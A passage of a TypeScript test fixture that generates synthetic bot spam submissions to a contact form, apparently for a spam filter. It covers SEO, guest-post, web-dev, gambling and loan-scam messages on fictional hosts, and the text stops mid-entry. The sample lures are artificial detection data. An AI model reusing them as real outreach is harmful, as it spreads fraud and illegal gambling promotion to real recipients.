// biome-ignore-all lint/suspicious/noTemplateCurlyInString: scanner probes really send such strings.

/**
 * 500 bot submissions to the contact form, of the kinds that corporate sites received in 2024–2026.
 *
 * The author did not know the rules and word lists of the spam score. Each base text is written by hand. `times` is
 * the number of submissions that are made from it, and `<<a|b|c>>` marks words that differ between them. The index of
 * a submission selects its words, so nothing is random.
 * All hosts (.example, .test, .invalid), people, firms, telephone numbers and wallet addresses are fictional.
 */

export type BotBehaviour =
  /** Posts straight to the endpoint without loading the page, so it has no form token. */
  | "raw"
  /** Parses the page's HTML and fills every input, hidden ones included. */
  | "fills-every-field"
  /** A headless browser that fills and submits within a second. */
  | "headless-fast"
  /** A headless browser that waits like a human: only the content gives it away. */
  | "headless-slow"
  /** One harvested token used for many posts. */
  | "replays-token"
  /** Sends a made-up token. */
  | "forged-token";

export interface BotSubmission {
  kind: string;
  behaviour: BotBehaviour;
  name: string;
  email: string;
  subject: string;
  message: string;
}

interface Base {
  kind: string;
  /** How many submissions the base yields. */
  times: number;
  /** One letter per behaviour (see BEHAVIOURS), taken in turn. */
  as: string;
  /** "Name // address" pairs, taken in turn. */
  from: string[];
  subject: string;
  message: string;
}

const BEHAVIOURS: Record<string, BotBehaviour> = {
  r: "raw",
  f: "fills-every-field",
  q: "headless-fast",
  s: "headless-slow",
  t: "replays-token",
  x: "forged-token",
};

/** Replaces the nth `<<a|b|c>>` group with its (index + n)th option, wrapping round. */
function spin(text: string, index: number): string {
  let group = 0;
  return text.replace(/<<([\s\S]*?)>>/g, (_whole, options: string) => {
    const choices = options.split("|");
    const choice = choices[(index + group) % choices.length] ?? "";
    group += 1;
    return choice;
  });
}

/** A string of letters that looks random but follows from its seed alone. */
function gibberish(seed: number, length: number, alphabet: string): string {
  let state = seed * 7919 + 104729;
  let text = "";
  for (let i = 0; i < length; i += 1) {
    state = (state * 1103515245 + 12345) % 2147483648;
    text += alphabet[Math.floor(state / 65536) % alphabet.length];
  }
  return text;
}

/** A run of links, one per slug and page. */
function linkList(host: string, slugs: string[], pages: number, wrap: (url: string, slug: string) => string): string {
  const lines: string[] = [];
  for (let page = 1; page <= pages; page += 1) {
    for (const slug of slugs) lines.push(wrap(`https://${host}/${slug}-${page}/`, slug));
  }
  return lines.join("\n");
}

const seo: Base[] = [
  {
    kind: "seo-backlinks",
    times: 4,
    as: "rqft",
    from: [
      "Mike Hendersen // mike@<<digital-rank|rank-lift|topserp>>.example",
      "Mike Aldridge // mike.aldridge@serpwave.example",
    ],
    subject: "<<Improve|Boost|Increase>> your website ranks",
    message:
      "Hi there,\n\nI have just checked nusagrid.example for the <<current|latest>> SEO trend and saw that your website could use a <<boost|push|hand>>.\n\nWe will improve your ranks organically and safely, using only <<state of the art AI|white hat>> methods, while providing monthly reports and outstanding support.\n\nMore info: https://www.<<digital-rank|rank-lift|topserp|serpwave>>.example/unbeatable-seo\n\nRegards\nMike\n\nPhone/WA: +1 (555) 010-0<<137|148|192|121>>",
  },
  {
    kind: "seo-backlinks",
    times: 3,
    as: "rrs",
    from: [
      "Ananya Verma // ananya.verma@seo-boost.example",
      "Ritika S. // ritika@seo-boost.example",
      "Neha K // neha.k@inbox.test",
    ],
    subject: "<<First page|Page 1|Top 3>> ranking for nusagrid.example",
    message:
      "Hello Sir/Madam,\n\nGreetings of the day!\n\nI was going through your website and found that despite having a good design it is not ranking on the <<first|1st>> page of any search engine for your most searched keywords. We can place your website on page 1 in just <<90|60|45>> days.\n\nOur packages start from only $<<99|149|129>>/month. No contract, cancel any time.\n\nCan I send you a proposal and price list? Kindly share your phone number and the best time to call.\n\nWarm regards,\nBusiness Development Executive",
  },
  {
    kind: "seo-backlinks",
    times: 4,
    as: "fsrx",
    from: ["Georgina Haynes // georgina@link-hive.example", "Harriet Cole // hcole@link-hive.example"],
    subject: "<<DR50+|DA 60+|DR 70+>> backlinks for your domain",
    message:
      "<<Hi|Hello|Hey>>,\n\n<<500|1000|2500>> high quality dofollow backlinks from unique domains for only $<<39|49|59|45>>!\n\n- 100% indexed\n- niche relevant\n- full report within 7 days\n- money-back guarantee\n\nOrder now -> https://link-hive.example/<<offer|promo|deal>>\n\nUnsubscribe: https://link-hive.example/unsub",
  },
  {
    kind: "seo-backlinks",
    times: 3,
    as: "qrf",
    from: ["Jason Fuller // jasonfuller@<<mail|post>>.example"],
    subject: "<<Quick question about|Regarding|A note on>> your SEO",
    message:
      'My name is Jason and I am a <<digital marketing|search|growth>> consultant. Your competitors are outranking you for "<<IT services jakarta|managed security|cloud provider>>" and taking your customers every single day. I can fix it. Reply YES and I\'ll record you a free 5 min video showing how.',
  },
  {
    kind: "seo-backlinks",
    times: 3,
    as: "rxt",
    from: ["Jasa SEO Murah // order@jasa-seo-murah.example", "Admin RajaSEO // cs@raja-backlink.example"],
    subject: "Jasa SEO <<bergaransi|halaman 1|murah>> - bayar setelah naik",
    message:
      "Halo kak, kami menawarkan <<jasa SEO|jasa backlink PBN|paket optimasi website>> untuk nusagrid.example. Garansi halaman 1 dalam <<30|60|90>> hari, kalau tidak naik uang kembali 100%!! Harga mulai Rp <<499|750|350>>.000/bulan. Bonus 100 backlink edu & gov. Langsung chat WA 0812-0000-<<4411|4412|4413>> atau kunjungi https://jasa-seo-murah.example/paket",
  },
  {
    kind: "seo-backlinks",
    times: 3,
    as: "tfr",
    from: ["Lorenzo Bianchetti // lorenzo@pbn-market.example"],
    subject: "PBN links <<aged domains|homepage posts|.edu .gov mix>>",
    message:
      "<<Powerful|Private|Premium>> PBN homepage links, aged domains 8+ yrs, zero footprint. 10 links $30, 25 links $65, 100 links $200. Casino / CBD / adult niches accepted. Pay in USDT for 10% off. T-gram: @pbn_<<lorenzo|market|supply>>",
  },
  {
    kind: "seo-backlinks",
    times: 3,
    as: "rqs",
    from: ["Web Traffic Pro // sales@traffic-flood.example", "Visitors Delivered // hello@traffic-flood.example"],
    subject: "<<10,000|25,000|50,000>> real visitors to your site",
    message:
      "We can send <<10,000|25,000|50,000>> targeted human visitors to your website within 72 hours starting at $<<19|29|47>>. Real people, any country, any niche, safe for ads accounts. See the live counter and claim your FREE trial of 500 visitors: https://traffic-flood.example/free?d=nusagrid.example",
  },
  {
    kind: "seo-backlinks",
    times: 3,
    as: "xrf",
    from: ["Sophie Lang // sophie@semantic-links.example"],
    subject: "Schema + <<semantic backlinks|entity stacking|local citations>>",
    message:
      "hello\n\nsearch engines changed. links alone dont rank anymore in 2025, you need <<semantic backlinks|an entity stack|citations>> . we build it for <<40|55>> usd per keyword, any language, any niche\n\nhttps://semantic-links.example/?ref=<<nusa|contact|form>>\n\nThis email was sent from your own contact form, to opt out reply STOP",
  },
  {
    kind: "seo-backlinks",
    times: 3,
    as: "rrq",
    from: ["Dominic Pratley // d.pratley@map-pack-heroes.example"],
    subject: "You are invisible on the map <<(3 pack)|results|listing>>",
    message:
      "Dear business owner, 88% of local searches end in a call within 24 hours, and your company does not appear in the map 3-pack. We guarantee <<top 3|#1|the 3-pack>> in <<30|45>> days or you don't pay. Spots for Jakarta are limited to ONE firm per category. Book: https://map-pack-heroes.example/book",
  },
  {
    kind: "seo-backlinks",
    times: 2,
    as: "fr",
    from: ["Peter // peter@bulk-submit.example"],
    subject: "contact form marketing",
    message:
      "Did you know your message can be sent to <<2.7 million|900,000|14 million>> contact forms just like this one just reached you? No spam filters! $<<50|99>> per million forms. Chat: live:bulk.submit  Site: https://bulk-submit.example",
  },
  {
    kind: "seo-backlinks",
    times: 3,
    as: "trf",
    from: ["Carla Mendieta // carla@wiki-links.example", "Owen Tarrant // owen@wiki-links.example"],
    subject: "Re: <<link building|off-page SEO|domain authority>>",
    message:
      "Just following up on my previous email as I didn't hear back. We can raise your Domain <<Rating|Authority>> to 50+ within <<20|25|30>> days with genuine contextual links, guaranteed. Only USD <<85|110|70>> one time. Sample report attached in the link: https://wiki-links.example/sample.pdf . Should I go ahead and start?",
  },
  {
    kind: "seo-backlinks",
    times: 2,
    as: "qr",
    from: ["Rahul Digital // rahul.digital@inbox.test"],
    subject: "SEO + SMO + PPC + ORM <<package|plan>>",
    message:
      "Dear Team,\nWe provide below services at very affordable price:\n1. SEO (Search Engine Optimization)\n2. SMO (Social Media Optimization)\n3. PPC\n4. ORM\n5. Website design & re-design\n6. Content writing\n\n<<25|15>> years experience team of 120+ professionals. 100% satisfaction.\nMay I know if you are interested? then I can send you our past work details, price list and an offer.\n\nThanks & Regards\nRahul\nNote: This is not a spam. We found your email by manual research.",
  },
  {
    kind: "seo-backlinks",
    times: 3,
    as: "rxq",
    from: ["AI Search Lab // team@ai-overview-rank.example"],
    subject: "Is <<Nusagrid|your brand|your company>> mentioned by AI assistants?",
    message:
      "SEO is dead, GEO is here. When buyers ask an AI chatbot for the best <<cloud|security|IT>> firm in your city, your competitors get recommended and you don't. We inject your brand in <<AI answers|AI overviews>> within 3 weeks. Launch price $<<199|249|149>>, usually $999. Secure your slot: https://ai-overview-rank.example/start",
  },
  {
    kind: "seo-backlinks",
    times: 2,
    as: "ft",
    from: ["Tomas Vrba // tomas@expired-domains.example"],
    subject: "Expired domains with traffic for sale",
    message:
      "We sell aged & expired domains in your niche (<<tech|cyber security>>) with existing backlinks — 301 redirect them to nusagrid.example and watch your rank fly. List of <<340|512>> names and prices: https://expired-domains.example/list.xlsx",
  },
  {
    kind: "seo-backlinks",
    times: 2,
    as: "sq",
    from: ["Emily Crawford // emily@monthly-seo.example"],
    subject: "Unlimited SEO for $<<9.99|7.99>>",
    message:
      "Unlimited monthly backlinks, unlimited keywords, unlimited websites. Only $<<9.99|7.99>>/mo for the first 100 customers!!! >>> https://monthly-seo.example/unlimited <<hurry|offer ends tonight>>. Rank #1 GUARANTEED or double your money back. Buy backlinks now, thank us later.",
  },
  {
    kind: "seo-backlinks",
    times: 2,
    as: "rt",
    from: ["Backlink Indonesia // halo@backlink-nusantara.example"],
    subject: "Penawaran backlink media nasional",
    message:
      "Selamat siang Bapak/Ibu,\nKami menyediakan jasa <<publikasi press release|content placement|backlink permanen>> di 150+ media online dengan DA tinggi. Harga mulai 35 ribu per artikel, sudah termasuk penulisan. Cocok untuk menaikkan peringkat website perusahaan Bapak/Ibu. Daftar media dan harga: https://backlink-nusantara.example/daftar-media.pdf",
  },
  {
    kind: "seo-backlinks",
    times: 2,
    as: "rf",
    from: ["Negative SEO // x@<<sink-rank|drop-rival>>.example"],
    subject: "deindex your competitor",
    message:
      "Negative SEO with satisfaction guaranteed. We <<sink|bury|deindex>> any competitor site in 14-28 days. https://<<sink-rank|drop-rival>>.example/negative . 100% anonymous, crypto only",
  },
];

const guestPosts: Base[] = [
  {
    kind: "guest-post",
    times: 3,
    as: "rqf",
    from: ["Laura Benning // laura.benning@outreach-desk.example", "Amelia Frost // amelia@outreach-desk.example"],
    subject: "Guest post <<inquiry|opportunity|collaboration>>",
    message:
      "Hi,\n\nI came across your <<amazing|wonderful|informative>> blog and I love your content! I would like to contribute a well-researched, plagiarism-free article with one dofollow link to my client's website. How much do you charge for a <<guest post|sponsored post|link insertion>>? We do bulk orders monthly.\n\nLooking forward to a long-term partnership,\nContent Outreach Specialist",
  },
  {
    kind: "guest-post",
    times: 3,
    as: "rtx",
    from: ["Hamza Outreach // hamza.outreach@<<mail|post>>.example"],
    subject: "link insertion price?",
    message:
      "hello dear admin, i want <<link insertion|general guest post|casino guest post>> on your site. what is your final price? permanent and dofollow? payment after live through <<wallet|usdt>>. waiting your quick reply",
  },
  {
    kind: "guest-post",
    times: 3,
    as: "qfr",
    from: ["Brenda Okoye // brenda@guestpost-hub.example"],
    subject: "<<4,000+|6,500+|12,000+>> sites for guest posting",
    message:
      "Dear webmaster, we own a list of <<4,000+|6,500+|12,000+>> sites that accept guest posts in all niches (tech, casino, crypto, CBD, health). Prices from $10. Some samples:\n\nhttps://techbuzz.example DR 61 - $25\nhttps://dailyfinance.test DR 55 - $20\nhttps://newsline.invalid DR 72 - $60\n\nFull sheet: https://guestpost-hub.example/sheet",
  },
  {
    kind: "guest-post",
    times: 2,
    as: "rr",
    from: ["Nathan Cray // nathan@crayons-content.example"],
    subject: "Broken link on your <<resources|blog>> page",
    message:
      "Hey, I noticed a broken link on your page about <<cloud migration|ransomware>>. My client has an excellent article which would be a perfect replacement: https://crayons-content.example/ultimate-guide . Would you mind swapping it in? In return I'll share your page with our 40k newsletter readers or pay a small editorial fee.",
  },
  {
    kind: "guest-post",
    times: 3,
    as: "frq",
    from: ["Olivia M. // olivia.m@infographic-studio.example"],
    subject: "Free <<infographic|article|listicle>> for your readers",
    message:
      'I\'ve been following nusagrid.example for a while and think your audience would love our new <<infographic|article|listicle>> "<<17|21|33>> cybersecurity stats that will shock you". It is totally FREE to publish, all we ask for is a dofollow credit link to our sponsor (online gaming niche). Shall I send the draft?',
  },
  {
    kind: "guest-post",
    times: 3,
    as: "rtf",
    from: ["Content Placement ID // placement@media-sisip.example", "Dewi Outreach // dewi@media-sisip.example"],
    subject: "Tanya harga content placement",
    message:
      "Halo admin, saya dari agensi digital. Apakah website nusagrid.example menerima <<content placement|sisip link|guest post>>? Klien kami di niche <<game online|slot|pinjaman|trading>>. Mohon info harga <<per artikel|per link>>, permanen atau per tahun, dan apakah dofollow. Bisa order rutin 20 artikel/bulan. Terima kasih",
  },
  {
    kind: "guest-post",
    times: 2,
    as: "xq",
    from: ["Victor Lamm // victor@swap-links.example"],
    subject: "3-way link exchange",
    message:
      "Hi webmaster! I'd like to propose a <<3-way|ABC>> link exchange. You link to site A, we link you from site B (DR <<58|64>>). 100% safe, no footprint. Our inventory: https://swap-links.example/inventory. Which of your pages would you like to boost?",
  },
  {
    kind: "guest-post",
    times: 2,
    as: "rf",
    from: ["Fatima Writers // fatima@article-mill.example"],
    subject: "Article submission",
    message:
      "Respected Sir, I am a professional content writer. I can write SEO friendly article for your blog <<free of cost|for free>>. My topics: 1) Top 10 Benefits of Cloud 2) How Online Casino Keep Data Safe 3) Best VPN 2025. Inside the article will be two links. Please confirm and I send today itself.",
  },
  {
    kind: "guest-post",
    times: 2,
    as: "ts",
    from: ["Sponsored Desk // desk@paid-placements.example"],
    subject: "$<<120|200>> for one link - instant payment",
    message:
      'We pay $<<120|200>> TODAY for one dofollow link to an online casino from any existing page on your site. No editing, no disclosure, just the anchor text "best online casino bonus". Payment in USDT within 10 minutes of publishing. We need 15 links this week. Apply: https://paid-placements.example/publishers',
  },
  {
    kind: "guest-post",
    times: 3,
    as: "qrx",
    from: ["Isla Whitcombe // isla.w@inbox.test"],
    subject: "Following up on <<my pitch|my last email|the article>>",
    message:
      "Hi again! Circling back on this — I know you're busy. Did you get a chance to look at my topic ideas? All articles are 1,500+ words, original, <<human written|AI-free>>, with royalty-free images. We only need 1-2 contextual links. If there's a publishing fee please mention it in your reply. If you're not the right person could you forward to your editor?",
  },
];

const outsourcing: Base[] = [
  {
    kind: "web-dev-pitch",
    times: 3,
    as: "rqf",
    from: ["Arjun Malhera // arjun@webcraft-offshore.example", "Sanjay Web // sanjay@webcraft-offshore.example"],
    subject: "Website <<redesign|re-design|design & development>> proposal",
    message:
      "Hi,\n\nI was on your website and noticed that it has some design issues and is not very mobile friendly. We are a <<leading|top rated|ISO certified>> web development company with <<150|200|85>>+ developers. We can redesign it starting at just $<<299|349|199>>.\n\nWould you like to see samples of our work? Please share your requirement and phone number.\n\nThanks,\nBusiness Development Manager",
  },
  {
    kind: "web-dev-pitch",
    times: 3,
    as: "rtq",
    from: ["Devika Rao // devika@hire-dedicated.example"],
    subject: "Hire dedicated <<PHP|React|mobile app|full stack>> developers",
    message:
      "Hello,\nAre you looking for dedicated <<PHP|React|mobile app|full stack>> developers at $<<8|10|12>>/hour? We provide pre-vetted engineers within 24 hours, NDA signed, 15 days risk-free trial. White-label partnership also available for agencies like you. Let me know a good time for a quick 10 minutes call this week.\nhttps://hire-dedicated.example/rates",
  },
  {
    kind: "web-dev-pitch",
    times: 3,
    as: "fxr",
    from: ["App Builder Team // hello@app-factory.example"],
    subject: "Turn your idea into an <<Android|iOS|Android & iOS>> app",
    message:
      "We develop mobile apps for ALL kinds of business - food delivery, taxi booking, dating, e-commerce, real money gaming. Ready-made clone scripts from <<$499|$799|$999>>, delivered in 7 days with source code. Limited <<Diwali|New Year|Black Friday>> discount 40%. Visit https://app-factory.example/clones",
  },
  {
    kind: "web-dev-pitch",
    times: 2,
    as: "qr",
    from: ["Nina Castell // nina@animated-explainers.example"],
    subject: "Explainer video for <<Nusagrid|your business>>",
    message:
      "Hi,\n\nWe'd like to create a 60-second animated explainer video for your business. Watch some of our existing videos here: https://animated-explainers.example/portfolio. Our prices start from just $<<195|159>> including script & voice-over. All of our videos increase conversions by 80%! Reply to unsubscribe.",
  },
  {
    kind: "web-dev-pitch",
    times: 3,
    as: "rfr",
    from: ["Jasa Website Kilat // cs@website-kilat.example", "Toko Web Murah // promo@toko-web-murah.example"],
    subject: "Jasa pembuatan website <<mulai 300rb|1 hari jadi|gratis domain>>",
    message:
      "PROMO <<AKHIR BULAN|KEMERDEKAAN|RAMADHAN>>!! Jasa bikin website profesional mulai Rp <<299.000|350.000|499.000>> sudah termasuk domain, hosting, SSL, desain premium & artikel SEO. 1 hari jadi! Sudah dipercaya 3000+ UMKM. Cek portofolio https://website-kilat.example atau chat WA 0857-0000-<<7781|7782|7783>> sekarang, slot terbatas!",
  },
  {
    kind: "web-dev-pitch",
    times: 3,
    as: "xqs",
    from: ["Errol Baines // errol@site-errors.example"],
    subject: "<<Errors|Critical errors|Issues>> found on nusagrid.example",
    message:
      "Your website has <<17|23|41>> critical errors that are KILLING your sales. Our scanner found: slow load time, no SSL best practice, missing meta tags, broken schema. Get everything fixed today for a one-time $<<79|97|49>>: https://site-errors.example/fix?u=nusagrid.example  ACT NOW before search engines blacklist you!!!",
  },
  {
    kind: "web-dev-pitch",
    times: 2,
    as: "rt",
    from: ["Logo Mania // studio@logo-mania.example"],
    subject: "90% OFF custom logo",
    message:
      "Get a custom logo for only $<<19|24>>! 6 concepts, unlimited revisions, 100% ownership rights. Use the code <<LOGO90|MANIA24>> at https://logo-mania.example before midnight. Also trademark registration, stationery, and brochure design.",
  },
  {
    kind: "web-dev-pitch",
    times: 2,
    as: "rq",
    from: ["Wei Ling Outsourcing // weiling@bpo-asia.example"],
    subject: "Virtual assistants <<from $4/hr|full-time $600>>",
    message:
      "Do you spend too much time on admin? Our trained virtual assistants do data entry, bookkeeping, customer chat, cold calling and lead research from <<$4/hour|$600/month>>. First 8 hours are on us. No credit card required. Hire yours now at https://bpo-asia.example/va",
  },
  {
    kind: "web-dev-pitch",
    times: 2,
    as: "ff",
    from: ["Accessibility Compliance // notice@ada-fixer.example"],
    subject: "Your site may be violating accessibility law",
    message:
      "URGENT: <<nusagrid.example|Your website>> failed <<31|27>> accessibility checks. Businesses like yours receive demand letters of $10,000-$75,000. Install one line of code & become compliant in 48 hours: https://ada-fixer.example/scan . Only $49/mo.",
  },
  {
    kind: "web-dev-pitch",
    times: 2,
    as: "rt",
    from: ["Kirti // kirti.bde@inbox.test"],
    subject: "Re: website",
    message:
      "Hi, <<Hope you are doing well|Hope this finds you well>>. Just wanted to know if you are planning to re-design your website or build a new mobile app? If yes I can send quote and past work. If not interested please ignore. Thanks, Kirti (Sr. BDE)",
  },
  {
    kind: "web-dev-pitch",
    times: 2,
    as: "xr",
    from: ["Hosting Turbo // sales@hosting-turbo.example"],
    subject: "Offshore hosting DMCA ignored",
    message:
      "Offshore VPS / dedicated, DMCA ignored, no KYC, crypto accepted. <<Netherlands|Moldova>> & <<Panama|Seychelles>>. From $4.90. Bulletproof mailing servers, clean IP /24 blocks, port 25 open. https://hosting-turbo.example",
  },
];

const gambling: Base[] = [
  {
    kind: "judi-online",
    times: 5,
    as: "rfqxs",
    from: [
      "<<Gacor|Maxwin|Zeus|Naga|Sultan>><<77|88|138|168|303>> // <<cs|promo|admin>>@<<gacor|maxwin|zeus|naga|sultan>>slot.example",
    ],
    subject: "Slot Gacor <<Hari Ini|Malam Ini|Gampang Menang|Terpercaya|Anti Rungkad>>",
    message:
      "<<SLOT GACOR|SITUS SLOT GACOR|LINK SLOT GACOR>> HARI INI RTP <<98,7|97,9|99,1>>% PASTI MAXWIN!! Deposit <<5rb|10rb|20rb>> tanpa potongan via pulsa, QRIS & e-wallet. Bonus new member <<100|150|200>>% langsung cair. Daftar sekarang: https://<<gacor|maxwin|zeus|naga|sultan>>slot.example/daftar",
  },
  {
    kind: "judi-online",
    times: 4,
    as: "rtrf",
    from: ["Togel Online // admin@togel-<<hk|sgp|sdy|macau>>.example"],
    subject: "Bocoran <<HK|SGP|SDY|Macau>> malam ini 4D",
    message:
      "Prediksi & bocoran togel <<HK|SGP|SDY|Macau>> malam ini paling jitu 2D 3D 4D. Bandar togel terpercaya hadiah 4D x <<10.000|9.900>>ribu, diskon 66%. Pasang angka di https://togel-<<macau|hk|sgp|sdy>>.example/pasang - data keluaran lengkap, live draw tercepat",
  },
  {
    kind: "judi-online",
    times: 4,
    as: "srfx",
    from: ["Judi Bola // bola@<<sbo|parlay|mixbet|goalbet>>-agen.example"],
    subject: "Agen judi bola <<resmi|mix parlay|piala dunia>>",
    message:
      "Agen judi bola <<resmi|terbesar|no 1>> se-Indonesia, mix parlay mulai 3 tim, odds tertinggi, cashback <<10|15>>% tiap <<Senin|minggu>>. Live casino baccarat, roulette, sicbo, dragon tiger 24 jam. Link alternatif anti blokir 👉 https://<<parlay|mixbet|goalbet|sbo>>-agen.example/alt",
  },
  {
    kind: "judi-online",
    times: 3,
    as: "rrs",
    from: ["Poker QQ // qq@domino-qq.example", "BandarQ // cs@domino-qq.example"],
    subject: "<<PKV Games|DominoQQ|BandarQ>> 1 ID 9 permainan",
    message:
      "situs <<pkv games|dominoqq|bandarq>> online terpercaya 2025, 1 user id untuk 9 permainan, no robot player vs player, bonus turnover 0,5% referral 20% seumur hidup, minimal depo 10rb wd 20rb proses <<1|2>> menit. download apk https://domino-qq.example/apk main sekarang juga menang jutaan rupiah",
  },
  {
    kind: "judi-online",
    times: 3,
    as: "ftr",
    from: ["Akun Pro Kamboja // vip@akun-pro.example"],
    subject: "Akun pro <<Kamboja|Thailand|Jepang>> bocor",
    message:
      "Gunakan akun pro <<Kamboja|Thailand|Jepang>> server luar yang terbukti gampang scatter hitam!! pola gacor jam <<00.30|02.15|23.40>>: spin 10x turbo on, 20x turbo off, buy spin. bukti wd 87 juta bukan hoax. join grup T-gram dan daftar di akun-pro.example",
  },
  {
    kind: "judi-online",
    times: 3,
    as: "xrs",
    from: ["Freebet Admin // freebet@freechip.example"],
    subject: "Freebet gratis <<20rb|50rb|100rb>> tanpa deposit",
    message:
      "Klaim freebet gratis <<20rb|50rb|100rb>> tanpa deposit tanpa syarat, langsung main slot online dan bisa di WD! Cukup isi nama + no rekening + no WA di https://freechip.example/klaim?<<a|b|c>>=1 . Khusus <<100|250|500>> orang pertama hari ini.",
  },
  {
    kind: "judi-online",
    times: 3,
    as: "rfr",
    from: ["slot<<thailand|server|dana>> // a@slot-<<thai|luar|dana>>.example"],
    subject: "slot",
    message:
      '<a href="https://slot-<<thai|luar|dana>>.example">slot <<thailand|server luar|deposit dana>></a> <a href="https://slot-<<thai|luar|dana>>.example/rtp">rtp live</a> <a href="https://slot-<<thai|luar|dana>>.example/demo">slot demo</a> <a href="https://slot-<<thai|luar|dana>>.example/gacor">slot gacor maxwin</a>',
  },
  {
    kind: "judi-online",
    times: 3,
    as: "rst",
    from: ["Casino Affiliates // partners@<<spin-royal|lucky-vault|betopia>>.example"],
    subject: "<<Welcome bonus|Free spins|No deposit bonus>> inside",
    message:
      "Play the best online casino of <<2024|2025|2026>>! <<200|350|500>> FREE SPINS + <<$500|$1000|€1500>> welcome bonus. Instant payouts, crypto accepted, no verification. Over 4,000 slots, blackjack, live roulette. Sign up in 30 seconds: https://<<spin-royal|lucky-vault|betopia>>.example/r/form",
  },
  {
    kind: "judi-online",
    times: 3,
    as: "sfr",
    from: ["Rina Maxwin // rina.maxwin@kotakpos.test", "Bunga Jackpot // bunga@kotakpos.test"],
    subject: "Pengalaman menang <<50 juta|120 juta|33 juta>> main slot",
    message:
      "Hai kak, awalnya aku juga ga percaya tapi modal <<50rb|25rb>> aja bisa menang <<50 juta|120 juta|33 juta>> main slot olympus di situs ini. Sekarang hutang lunas, udah beli motor baru. Situsnya jujur bayar berapa pun kemenangan. Kalau mau coba daftar lewat link aku ya biar dapat bonus 100%: https://jackpot-jujur.example/?reff=rina . Jangan lupa main jam 1 malam pas lagi gacor",
  },
  {
    kind: "judi-online",
    times: 3,
    as: "trx",
    from: ["Sabung Ayam // sv@sabung-live.example"],
    subject: "Live sabung ayam <<SV-999|WS-000|arena baru>>",
    message:
      "Nonton & taruhan sabung ayam live 24 jam langsung dari arena, minimal taruhan <<10rb|20rb|15rb>>. Deposit via bank lokal, pulsa tanpa potongan. Login cepat di sabung-live[.]example atau ketik di browser kamu sabung-live.example/<<login|masuk|daftar>>",
  },
  {
    kind: "judi-online",
    times: 2,
    as: "rf",
    from: ["Jasa Tembus SEO Slot // bh@blackhat-slot.example"],
    subject: "Sewa subdomain go.id untuk halaman slot",
    message:
      "Kami sewa / beli akses <<subdomain|shell|cpanel>> website go.id, ac.id, perusahaan untuk landing page slot. Bayar <<3|5>> juta per bulan per domain, aman, tidak mengganggu web utama. Berminat hubungi T-gram @bh_slot atau https://blackhat-slot.example",
  },
  {
    kind: "judi-online",
    times: 2,
    as: "rx",
    from: ["Arisan Slot // arisan@depo25bonus25.example"],
    subject: "depo 25 bonus 25",
    message:
      "depo 25 bonus 25 to kecil x<<5|3>> all game bebas buy spin | depo 50 bonus 50 | depo 100 bonus 100 | bonus new member 100 di awal | garansi kekalahan <<100|50>>% saldo kembali | depo25bonus25.example",
  },
  {
    kind: "judi-online",
    times: 2,
    as: "sf",
    from: ["RTP Live // rtp@rtp-live-hari-ini.example"],
    subject: "RTP live tertinggi",
    message:
      "Info RTP live slot tertinggi hari ini update tiap <<5|10>> menit:\nGates of Olimpus 98%\nStarlight Putri 97%\nMahyong Ways 99%\nSweet Bonanzza 96%\n\nPilih game panas dan langsung maxwin x<<500|5000>> di https://rtp-live-hari-ini.example",
  },
  {
    kind: "judi-online",
    times: 2,
    as: "rt",
    from: ["CS Tembak Ikan // ikan@tembak-ikan.example"],
    subject: "Game penghasil uang asli",
    message:
      "Game <<tembak ikan|domino|ludo>> penghasil uang asli langsung cair ke rekening, tanpa undang teman! Sudah <<2|3>> juta pemain Indonesia. Modal HP saja bisa dapat 500rb/hari. Unduh APK tembak-ikan.example/apk (bukan di toko resmi)",
  },
  {
    kind: "judi-online",
    times: 2,
    as: "fr",
    from: ["Backlink Slot // order@backlink-slot.example"],
    subject: "artikel titip slot",
    message:
      "Titip artikel slot di web kakak bayar <<150rb|200rb>> per post, anchor: situs gacor, slot000, judi online terpercaya, bandar slot. Minimal tayang 6 bulan. Bisa deal 50 web sekaligus, rekber oke. balas ke order@backlink-slot.example",
  },
];

const loans: Base[] = [
  {
    kind: "loan-offer",
    times: 4,
    as: "rfst",
    from: ["Dana <<Kilat|Cepat|Tunai|Sejahtera>> // cs@dana-<<kilat|cepat|tunai|sejahtera>>.example"],
    subject: "Pinjaman online <<tanpa jaminan|langsung cair|tanpa BI checking|cair 5 menit>>",
    message:
      "Butuh dana cepat? Pinjaman online <<langsung cair|5 menit cair|tanpa jaminan>> mulai Rp 1 juta s/d Rp <<50|100|500>> juta, bunga 0,<<1|3|5>>%, cukup KTP saja, tanpa BI checking, tanpa survei! Galbay pun bisa. Hubungi WA 0838-0000-<<9010|9011|9012|9013>> atau ajukan di https://dana-<<kilat|cepat|tunai|sejahtera>>.example/ajukan",
  },
  {
    kind: "loan-offer",
    times: 3,
    as: "rxs",
    from: ["Mr. Gerald Finney // gerald.finney@trust-lend.example", "Mrs. Hilda Roan // hilda.roan@trust-lend.example"],
    subject: "LOAN OFFER AT <<2%|3%|1.5%>> INTEREST RATE",
    message:
      "Do you need an urgent loan to pay off your debts or start a business? We give out loans from $<<5,000|10,000|2,000>> to $<<50,000,000|10,000,000|500,000,000>> at <<2%|3%|1.5%>> interest rate, no collateral, no credit check, to individuals and companies worldwide. Apply now with the following details:\n\nFull name:\nCountry:\nAmount needed:\nDuration:\nMonthly income:\nPhone number:\n\nContact us via email: loans@trust-lend.example",
  },
  {
    kind: "loan-offer",
    times: 3,
    as: "rft",
    from: ["Koperasi Simpan Pinjam // ksp@ksp-mandraguna.example", "KSP Mandraguna // info@ksp-mandraguna.example"],
    subject: "Penawaran KTA / <<modal usaha|multiguna|talangan>>",
    message:
      "KOPERASI SIMPAN PINJAM MANDRAGUNA menawarkan pinjaman <<modal usaha|multiguna|dana talangan>> plafon 5 juta - 500 juta. Proses 15 menit, angsuran ringan 1-<<5|7|10>> tahun. Syarat: foto KTP, KK, nomor rekening. Tidak ada potongan administrasi di depan. Hub. Ibu Sumarti 0877-0000-<<2201|2202|2203>>. SEGERA kuota terbatas!!",
  },
  {
    kind: "loan-offer",
    times: 3,
    as: "qrr",
    from: [
      "Testimoni Ibu Wati // wati@mail.example",
      "Ibu Rohaya // rohaya@mail.example",
      "Pak Darsono // darsono@mail.example",
    ],
    subject: "Kesaksian: akhirnya saya dapat pinjaman",
    message:
